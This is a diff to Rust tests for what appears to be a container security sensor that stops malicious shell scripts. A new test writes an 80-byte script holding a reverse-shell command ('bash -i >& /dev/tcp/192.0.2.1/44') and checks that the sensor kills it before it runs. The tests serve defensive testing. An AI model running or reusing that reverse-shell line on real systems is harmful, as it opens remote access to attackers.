@@ -25,6 +25,15 @@ fn container(number: u32) -> Cgroup {
     Cgroup::make(&format!("{POD}/{number:064x}"))
 }
 
+/// Runs shells in the container until they are held: the first of a cgroup that has no PID namespace of its own is not, since it is
+/// not known yet to be of a container.
+fn wait_for_holds(node: &Node, cgroup: &Cgroup) {
+    let holds = || node.reading("kernel_holds_total").expect("a counter");
+    let before = holds();
+    let is_held = || inside(cgroup, "/bin/bash", &["-c", ":"]).status().is_ok() && holds() > before;
+    node.wait_until(is_held).expect("shells are held");
+}
+
 /// Malicious by any model, and inert: `:` runs instead. Its first command makes the file `marker`.
 fn attack(name: &str, marker: &Path) -> String {
     format!(
@@ -90,8 +99,7 @@ fn nothing_of_a_malicious_script_runs_however_it_comes() {
     let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
     let cgroup = container(0xd1);
     let marker = |name: &str| node.path(&format!("ran-{name}"));
-    // The first shell of a cgroup that is in no PID namespace of its own is only now known to be of a container.
-    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    wait_for_holds(&node, &cgroup);
     let file = |name: &str| {
         let text = attack(name, &marker(name));
         node.file(&format!("{name}.sh"), text.as_bytes()).expect("a file").display().to_string()
@@ -144,6 +152,38 @@ fn nothing_of_a_malicious_script_runs_however_it_comes() {
 }
 
 #[test]
+fn what_looks_like_a_glance_or_like_data_is_held_when_it_is_run() {
+    let node = Node::start(&["--respond", "hold", "--hold-deadline", "1s"]).expect("a node");
+    let cgroup = container(0xd6);
+    wait_for_holds(&node, &cgroup);
+    let run = |mut command: Command| {
+        let status = command.current_dir(node.dir.path()).status().expect("a shell");
+        assert!(!node.path("m").exists(), "it ran\n{}", node.log());
+        assert_eq!(status.signal(), Some(libc::SIGKILL), "{status}\n{}", node.log());
+    };
+    // bash looks at the first 80 bytes of a file before it reads it. Here that is all of it.
+    let text = format!("{:79}\n", "echo>m; : || bash -i >& /dev/tcp/192.0.2.1/44 0>&1; #");
+    assert_eq!(text.len(), 80);
+    let file = node.file("eighty.sh", text.as_bytes()).expect("a file").display().to_string();
+    run(inside(&cgroup, "/bin/bash", &[&file]));
+    // What one shell reads as data another one in its place, or a later command, runs.
+    let lines = node.file("lines", format!("data\n{}", attack("lines", &node.path("m"))).as_bytes());
+    let lines = lines.expect("a file").display().to_string();
+    for shell in ["bash", "dash"] {
+        let program = format!("/bin/{shell}");
+        let mut cat =
+            Command::new("cat").arg(&lines).stdout(std::process::Stdio::piped()).spawn().expect("cat");
+        let mut piped = inside(&cgroup, &program, &["-c", &format!("read -r x; exec {shell}")]);
+        piped.stdin(cat.stdout.take().expect("a pipe"));
+        run(piped);
+        cat.wait().expect("its end");
+    }
+    let evil = node.file("evil", attack("evil", &node.path("m")).as_bytes()).expect("a file");
+    run(inside(&cgroup, "/bin/dash", &["-c", &format!("read -r x < {0}; . {0}", evil.display())]));
+    node.finish().expect("an outcome");
+}
+
+#[test]
 fn harmless_scripts_run_as_ever_and_others_are_not_stopped() {
     let node = Node::start(&["--respond", "hold", "--threshold", "0.99"]).expect("a node");
     let cgroup = container(0xd2);
@@ -159,7 +199,12 @@ fn harmless_scripts_run_as_ever_and_others_are_not_stopped() {
     // With job control a parent would take a stop for the end of its job: it is not stopped.
     let jobs = "set -m; bash -c 'echo job'; bash -c 'echo other' & wait; jobs";
     assert_eq!(output(inside(&cgroup, "/bin/bash", &["-c", jobs])), "job\nother\n");
-    assert!(node.reading("kernel_holds_noticed_total").expect("a counter") > 0);
+    let noticed = node.reading("kernel_holds_noticed_total").expect("a counter");
+    assert!(noticed > 0);
+    // It stops itself when its child is stopped, and waits for somebody to continue it.
+    let user = inside(&cgroup, "su", &["root", "-s", "/bin/bash", "-c", "echo user"]);
+    assert_eq!(output(user), "user\n");
+    assert!(node.reading("kernel_holds_noticed_total").expect("a counter") > noticed);
     let before = node.reading("kernel_holds_total").expect("a counter");
     assert!(before > 0);
     // The node's own shells.
@@ -174,7 +219,7 @@ fn harmless_scripts_run_as_ever_and_others_are_not_stopped() {
 fn nobody_is_left_stopped() {
     let node = Node::start(&["--respond", "hold"]).expect("a node");
     let cgroup = container(0xd3);
-    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    wait_for_holds(&node, &cgroup);
     let marker = |name: &str| node.path(&format!("ran-{name}"));
 
     // The sensor hangs: its second process continues the shell, and later ones are not stopped.
@@ -188,10 +233,7 @@ fn nobody_is_left_stopped() {
     assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
     assert!(begun.elapsed() < LATE, "{:?}", begun.elapsed());
     node.sensor.signal(libc::SIGCONT);
-    let holds = || node.reading("kernel_holds_total").expect("a counter");
-    let before = holds();
-    let is_held_again = || inside(&cgroup, "/bin/bash", &["-c", ":"]).status().is_ok() && holds() > before;
-    node.wait_until(is_held_again).expect("the sensor is back");
+    wait_for_holds(&node, &cgroup);
 
     // It is killed: likewise.
     let mut held = start_held(&node, &cgroup, &marker("killed"));
@@ -215,7 +257,7 @@ fn guards(sensor: u32) -> Vec<i32> {
 fn the_next_sensor_continues_whom_two_killed_processes_left() {
     let mut node = Node::start(&["--respond", "hold"]).expect("a node");
     let cgroup = container(0xd4);
-    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    wait_for_holds(&node, &cgroup);
     let marker = node.path("ran-left");
     let guard = *guards(node.sensor.pid()).first().expect("a second process");
     // SAFETY: plain system calls on a child of the sensor that this test started.
@@ -241,7 +283,7 @@ fn the_next_sensor_continues_whom_two_killed_processes_left() {
 fn shells_that_others_meddle_with_end_as_they_would() {
     let node = Node::start(&["--respond", "hold"]).expect("a node");
     let cgroup = container(0xd5);
-    assert!(inside(&cgroup, "/bin/bash", &["-c", ":"]).status().expect("a shell").success());
+    wait_for_holds(&node, &cgroup);
     let rounds = scaled(200);
     let mut children: Vec<Child> = Vec::new();
     for round in 0..rounds {
